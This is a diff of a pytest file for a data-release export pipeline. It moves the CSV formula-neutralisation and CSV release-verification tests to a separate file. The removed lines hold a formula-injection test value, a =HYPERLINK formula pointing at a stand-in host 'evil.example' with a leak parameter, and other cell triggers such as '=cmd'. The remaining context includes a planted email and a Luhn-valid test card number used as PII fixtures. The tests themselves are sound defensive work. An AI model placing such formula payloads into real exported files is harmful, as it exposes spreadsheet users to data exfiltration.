@@ -1,11 +1,10 @@
-"""Export: gated releases, the release ledger, CSV releases and the gate's Data Docs."""
+"""Export: gated releases, the release ledger and the gate's Data Docs (CSV releases:
+tests/test_csv_release.py)."""
 
 from __future__ import annotations
 
-import csv
 import datetime as dt
 import json
-import shutil
 from pathlib import Path
 
 import pytest
@@ -17,12 +16,10 @@ from jobs.config.recipients import Recipient
 from jobs.errors import GateRefused
 from jobs.lake.layout import Lake
 from jobs.lake.session import project_path
-from jobs.release.csv_safe import neutralise_formula, with_formulas_neutralised
-from jobs.release.export import export_release, write_release_data
+from jobs.release.export import export_release
 from jobs.release.ledger import gate_docs_dir, read_ledger
 from jobs.release.verify import sha256_of, verify_release
 from tests.gold_fixtures import USAGE_SCHEMA, usage_rows
-from transforms.contracts import USAGE_BY_TIME_OF_DAY
 
 DATASET = "usage_by_time_of_day"
 PLANTED_EMAIL = "planted.export.person@leak-test.example"
@@ -30,7 +27,6 @@ BETWEEN = "expect_column_values_to_be_between"
 IN_SET = "expect_column_values_to_be_in_set"
 NO_PII = "expect_column_values_to_contain_no_pii"
 NOT_NULL = "expect_column_values_to_not_be_null"
-HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
 
 
 def make_lake(spark, root: Path, rows: list[tuple]) -> Lake:
@@ -155,62 +151,6 @@ def test_data_docs_folder_must_be_new(spark, tmp_path):
     (tmp_path / "old.html").write_text("an earlier run")
     with pytest.raises(ValueError, match="not empty"):
         validate_table(spark.createDataFrame([(1,)], "n int"), "adhoc", docs_dir=tmp_path)
-
-
-def test_neutralise_formula_quotes_every_trigger_and_nothing_else(spark):
-    cells = [HYPERLINK, "+1 202", "-2", "@SUM(A1)", "\t=cmd", "\r=cmd", "us", "a=b", " =x", "", None]
-    df = spark.createDataFrame([(cell,) for cell in cells], "cell string")
-    out = [row.cell for row in df.select(neutralise_formula(F.col("cell")).alias("cell")).collect()]
-    assert out == ["'" + HYPERLINK, "'+1 202", "'-2", "'@SUM(A1)", "'\t=cmd", "'\r=cmd", "us", "a=b", " =x", "", None]
-
-
-def test_only_string_columns_are_neutralised(spark):
-    df = spark.createDataFrame([("-1", -1, "ok")], "text string, number int, `a.b` string")
-    out = with_formulas_neutralised(df)
-    assert out.columns == df.columns
-    assert tuple(out.first()) == ("'-1", -1, "ok")
-
-
-def test_csv_file_holds_the_neutralised_cell_in_rfc4180_quoting(spark, tmp_path):
-    df = spark.createDataFrame([("b", HYPERLINK, 2), ("a", "plain", 1), ("c", None, 3)], "k string, cell string, n int")
-    staged_df = write_release_data(spark, df, tmp_path / "data", "csv", ("k",))
-    [part] = list((tmp_path / "data").iterdir())
-    assert part.name == "part-00000.csv"
-    with part.open(encoding="utf-8", newline="") as handle:
-        records = list(csv.reader(handle))
-    assert records == [["k", "cell", "n"], ["a", "plain", "1"], ["b", "'" + HYPERLINK, "2"], ["c", "", "3"]]
-    assert staged_df.where(F.col("cell") == "'" + HYPERLINK).count() == 1
-
-
-@pytest.fixture(scope="module")
-def csv_releases(spark, tmp_path_factory, policy):
-    root = tmp_path_factory.mktemp("csv")
-    lake = make_lake(spark, root, usage_rows())
-    releases = [export_release(spark, lake, root / "exports", recipient("csv"), DATASET, policy) for _ in range(2)]
-    return lake, releases
-
-
-def test_csv_release_verifies_and_is_deterministic(spark, csv_releases):
-    lake, (first, second) = csv_releases
-    assert verify_release(first) == [] and verify_release(second) == []
-    manifest = json.loads((first / "manifest.json").read_text())
-    assert [entry["path"] for entry in manifest["files"]] == ["data/part-00000.csv"]
-    assert (first / "data" / "part-00000.csv").read_bytes() == (second / "data" / "part-00000.csv").read_bytes()
-    header = (first / "data" / "part-00000.csv").read_text().splitlines()[0]
-    assert header.split(",") == list(USAGE_BY_TIME_OF_DAY.columns)
-    assert [row["status"] for row in ledger_rows(spark, lake)] == ["published", "published"]
-
-
-def test_verify_counts_csv_rows(csv_releases, tmp_path):
-    _, (release, _) = csv_releases
-    copy = tmp_path / release.name
-    shutil.copytree(release, copy)
-    manifest_path = copy / "manifest.json"
-    manifest = json.loads(manifest_path.read_text())
-    manifest["row_count"] = 3
-    manifest_path.write_text(json.dumps(manifest))
-    (copy / "manifest.json.sha256").write_text(f"{sha256_of(manifest_path)}  manifest.json\n")
-    assert verify_release(copy) == ["row count 2 but the manifest says 3"]
 
 
 CARD_IN_DIGITS = "4539148803436467"  # Luhn-valid, looks like any long number
